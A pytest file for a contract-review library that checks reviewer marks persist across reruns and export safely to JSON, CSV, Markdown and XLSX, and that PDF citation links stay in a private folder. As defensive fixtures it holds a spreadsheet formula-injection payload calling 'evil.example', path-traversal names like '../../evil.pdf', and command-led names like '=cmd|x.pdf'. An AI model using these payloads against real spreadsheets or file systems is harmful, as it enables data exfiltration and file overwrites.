"""Reviewer marks on a real grid (issue 27): a mark set on a cell is on the grid of the next run of the same
documents and columns (review and key terms), only in its own matter, and in every export (JSON, CSV, Markdown,
XLSX read back with openpyxl), its text kept as data. And the XLSX's citations link into the PDFs copied
beside it (``pdfs``): relative targets at the quote's page, private files with names that stay in the folder.

Real parts: generated PDFs, the real extraction worker, the pipeline with the hashing embedder and no language
model (offline cells), the real mark store on disk, openpyxl reading the saved workbook.
"""

from __future__ import annotations

import csv
import io
import json
import stat
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook
from support.contracts import PARTIES, agreement_pdf

from docpipe import DocPipe, ReviewGrid, Settings
from docpipe.review.marks import MarkStore
from docpipe.review.pdfs import copy_pdfs, pdf_folder, safe_file_stem

LAW = "Which law governs the agreement?"
NOTICE = "What is the notice period for termination for convenience?"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'


@pytest.fixture
def dp(tmp_path: Path) -> DocPipe:
    return DocPipe(Settings.preset("test", home=tmp_path / "home"))


@pytest.fixture
def room(tmp_path: Path) -> Path:
    folder = tmp_path / "room"
    folder.mkdir()
    for seller, buyer, notice, law in PARTIES:
        (folder / f"{seller.split()[0].lower()}_supply.pdf").write_bytes(agreement_pdf(seller, buyer, notice, law))
    return folder


def _mark_some(dp: DocPipe, grid: ReviewGrid, matter: str = "default") -> tuple[str, str]:
    marks = MarkStore.of(dp.store)
    first, second = grid.rows[0].document_id, grid.rows[1].document_id
    marks.set(matter, first, LAW, status="corrected", value="Delaware", comment=FORMULA, user="alice")
    marks.set(matter, second, NOTICE, status="flagged", comment="check the schedule", user="bob")
    return first, second


def test_marks_survive_a_rerun_of_the_grid_and_stay_in_their_matter(dp: DocPipe, room: Path) -> None:
    coll = dp.collection("deal")
    coll.add(room)
    grid = dp.review(coll, questions=[LAW, NOTICE])
    assert grid.marks == {} and grid.to_dict()["cells"][0][0]["mark"] is None
    first, second = _mark_some(dp, grid)
    MarkStore.of(dp.store).set("default", "ef" * 32, LAW, status="accepted", user="x")  # not in this grid

    again = dp.review(coll, questions=[LAW, NOTICE])  # the rerun: cells from the cache, marks from the store
    assert again.summary()["from_cache"] == 6
    assert set(again.marks) == {(first, LAW), (second, NOTICE)}
    law = again.mark(first, LAW)
    assert law is not None and (law.status, law.value, law.user) == ("corrected", "Delaware", "alice")
    assert again.mark(first, NOTICE) is None
    # A grid with other columns keeps the marks of the columns it shares.
    assert set(dp.review(coll, questions=[NOTICE]).marks) == {(second, NOTICE)}

    # Another matter's collection of the same files sees none of them.
    other = dp.collection("deal", matter="deal-y")
    other.add(room)
    assert dp.review(other, questions=[LAW, NOTICE]).marks == {}

    # A cleared mark is gone from the next run.
    assert MarkStore.of(dp.store).clear("default", first, LAW)
    assert set(dp.review(coll, questions=[LAW, NOTICE]).marks) == {(second, NOTICE)}


def test_a_matters_collection_shows_its_own_marks(dp: DocPipe, room: Path) -> None:
    coll = dp.collection("deal", matter="deal-x")
    coll.add(room)
    grid = dp.review(coll, questions=[LAW, NOTICE])
    first, _ = _mark_some(dp, grid, matter="deal-x")
    assert set(dp.review(coll, questions=[LAW, NOTICE]).marks) == {(first, LAW), (grid.rows[1].document_id, NOTICE)}
    own = dp.collection("deal")
    own.add(room)
    assert dp.review(own, questions=[LAW, NOTICE]).marks == {}  # the store's own matter is "default"


def test_key_terms_tables_carry_marks_too(dp: DocPipe, room: Path) -> None:
    coll = dp.collection("deal")
    coll.add(room)
    table = dp.terms(coll, terms=["governing_law"])
    key = table.columns[0].key
    MarkStore.of(dp.store).set("default", table.rows[0].document_id, key, status="accepted", user="alice")
    again = dp.terms(coll, terms=["governing_law"])
    assert again.mark(0, key) is not None and again.mark(0, key).status == "accepted"  # type: ignore[union-attr]
    assert "Accepted" in again.to_markdown()


def test_every_export_shows_the_marks_as_data(dp: DocPipe, room: Path, tmp_path: Path) -> None:
    coll = dp.collection("deal")
    coll.add(room)
    first, second = _mark_some(dp, dp.review(coll, questions=[LAW, NOTICE]))
    grid = dp.review(coll, questions=[LAW, NOTICE])
    r1 = next(i for i, r in enumerate(grid.rows) if r.document_id == first)
    r2 = next(i for i, r in enumerate(grid.rows) if r.document_id == second)

    # JSON: a "mark" object on each cell (null when none), and back.
    data = json.loads(grid.to_json())
    mark = data["cells"][r1][0]["mark"]
    assert {k: mark[k] for k in ("status", "value", "comment", "user")} == {
        "status": "corrected",
        "value": "Delaware",
        "comment": FORMULA,
        "user": "alice",
    }
    assert mark["when"].endswith("Z") and data["cells"][r1][1]["mark"] is None
    assert ReviewGrid.from_dict(data).marks == grid.marks

    # CSV: a mark column after each question, formula-led text apostrophe-prefixed.
    header, *rows = list(csv.reader(io.StringIO(grid.to_csv(), newline="")))
    assert header == ["document", "document_id", LAW, f"{LAW} - mark", NOTICE, f"{NOTICE} - mark"]
    assert rows[r1][3] == f"Corrected: Delaware - {FORMULA} (alice)"
    assert rows[r2][5] == "Flagged - check the schedule (bob)" and rows[r2][3] == ""

    # Markdown: the mark beside the cell and a section with every field.
    md = grid.to_markdown()
    assert "[Corrected: Delaware]" in md and "[Flagged]" in md
    section = md.split("Reviewer marks:")[1]
    assert "| alice |" in section and "check the schedule" in section

    # XLSX: a "Marks" sheet, a note and a border on the marked cell, every string a string cell.
    path = tmp_path / "grid.xlsx"
    grid.to_xlsx(path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    book = load_workbook(path)
    assert book.sheetnames == ["Review", "Citations", "Manifest", "Marks"]
    marks = list(book["Marks"].iter_rows(values_only=True))
    assert marks[0] == ("Document", "Column", "Mark", "Corrected value", "Comment", "By", "When (UTC)")
    by_column = {row[1]: row for row in marks[1:]}
    assert by_column[LAW][:6] == (grid.rows[r1].name, LAW, "Corrected", "Delaware", FORMULA, "alice")
    assert by_column[NOTICE][2:6] == ("Flagged", None, "check the schedule", "bob")
    comment_cell = book["Marks"].cell(row=2 + [r[1] for r in marks[1:]].index(LAW), column=5)
    assert comment_cell.data_type == "s" and comment_cell.quotePrefix  # the comment is text, not a formula
    review = book["Review"]
    law_cell = review.cell(row=r1 + 2, column=2)
    assert law_cell.comment is not None and "Corrected: Delaware" in law_cell.comment.text
    assert law_cell.border.left.style == "medium"
    assert review.cell(row=r1 + 2, column=3).comment is None
    link = book["Marks"].cell(row=2, column=2).hyperlink
    assert link is not None and link.location.startswith("'Review'!")


def test_a_grid_without_marks_exports_as_before(dp: DocPipe, room: Path, tmp_path: Path) -> None:
    coll = dp.collection("deal")
    coll.add(room)
    grid = dp.review(coll, questions=[LAW])
    assert next(csv.reader(io.StringIO(grid.to_csv()))) == ["document", "document_id", LAW]
    assert "Reviewer marks" not in grid.to_markdown()
    book = load_workbook(io.BytesIO(grid.to_xlsx()))
    assert book.sheetnames == ["Review", "Citations", "Manifest"]


# -- links into the PDFs --------------------------------------------------------------------------------------
def _targets(book) -> list[str]:
    return [c.hyperlink.target for row in book["Citations"].iter_rows() for c in row if c.hyperlink is not None]


def test_citations_link_into_the_pdfs_copied_beside_the_workbook(room: Path, tmp_path: Path) -> None:
    # The real embedder: offline cells quote a clause only when it scores above floors measured on it.
    dp = DocPipe(Settings(home=tmp_path / "home"))
    coll = dp.collection("deal")
    coll.add(room)
    grid = dp.review(coll, questions=[LAW, NOTICE])
    hostile = ["../../evil.pdf", "=cmd|x.pdf", "=CMD|X.pdf"]  # the last two only differ in case
    grid.rows = [replace(row, name=name) for row, name in zip(grid.rows, hostile)]
    out = tmp_path / "export" / "deal grid.xlsx"
    out.parent.mkdir()
    links = copy_pdfs(dp.store, grid.rows, out)
    grid.to_xlsx(out, pdfs=links)

    folder = pdf_folder(out)
    assert folder == out.parent / "deal grid-pdfs" and stat.S_IMODE(folder.stat().st_mode) == 0o700
    files = sorted(p.name for p in folder.iterdir())
    assert files == ["CMD_X-2.pdf", "cmd_x.pdf", "evil.pdf"]
    for row in grid.rows:
        copied = out.parent / links[row.document_id]
        assert copied.resolve().parent == folder.resolve()
        assert stat.S_IMODE(copied.stat().st_mode) == 0o600
        assert copied.read_bytes() == dp.store.load_source(row.document_id)
    assert not (tmp_path / "evil.pdf").exists() and not (out.parent.parent / "evil.pdf").exists()

    book = load_workbook(out)
    targets = _targets(book)
    assert targets and all(t.startswith("deal%20grid-pdfs/") and t.endswith("#page=1") for t in targets)
    assert {t.split("/")[1].split("#")[0] for t in targets} == set(files)
    assert not any(t.startswith(("/", "file:", "\\")) or ".." in t or ":" in t for t in targets)
    for row in book["Citations"].iter_rows(min_row=2):
        pages = row[8]
        if pages.value:
            assert pages.hyperlink is not None and pages.data_type == "s"
            assert not str(pages.value).startswith("=")


def test_without_pdfs_nothing_links_outside_the_workbook(dp: DocPipe, room: Path, tmp_path: Path) -> None:
    coll = dp.collection("deal")
    coll.add(room)
    book = load_workbook(io.BytesIO(dp.review(coll, questions=[LAW]).to_xlsx()))
    assert _targets(book) == []
    assert all(c.hyperlink.target is None for r in book["Review"].iter_rows() for c in r if c.hyperlink)


@pytest.mark.parametrize(
    ("name", "stem"),
    [
        ("../../evil.pdf", "evil"),
        ("..\\..\\evil.pdf", "evil"),
        ("=cmd|x.pdf", "cmd_x"),
        ("+1.pdf", "1"),
        ("@SUM(A1).pdf", "SUM(A1)"),
        ("-x.docx", "x"),
        ("..", "fallback"),
        ("", "fallback"),
        (".hidden.pdf", "hidden"),
        ("a\x00b\nc.pdf", "a_b_c"),
        ("x" * 300 + ".pdf", "x" * 80),
        ("Vertrag für München.pdf", "Vertrag f_r M_nchen"),
    ],
)
def test_file_names_stay_in_the_folder_and_are_not_formula_led(name: str, stem: str) -> None:
    assert safe_file_stem(name, fallback="fallback") == stem


def test_an_open_folder_from_an_earlier_export_is_made_private(dp: DocPipe, room: Path, tmp_path: Path) -> None:
    coll = dp.collection("deal")
    coll.add(room)
    out = tmp_path / "g.xlsx"
    pdf_folder(out).mkdir(mode=0o755)
    pdf_folder(out).chmod(0o755)
    copy_pdfs(dp.store, dp.review(coll, questions=[LAW]).rows, out)
    assert stat.S_IMODE(pdf_folder(out).stat().st_mode) == 0o700


def test_a_document_no_longer_stored_gets_no_link(dp: DocPipe, room: Path, tmp_path: Path) -> None:
    coll = dp.collection("deal")
    coll.add(room)
    grid = dp.review(coll, questions=[LAW])
    gone = grid.rows[0].document_id
    dp.store.delete_document(gone)
    links = copy_pdfs(dp.store, grid.rows, tmp_path / "g.xlsx")
    assert gone not in links and len(links) == 2
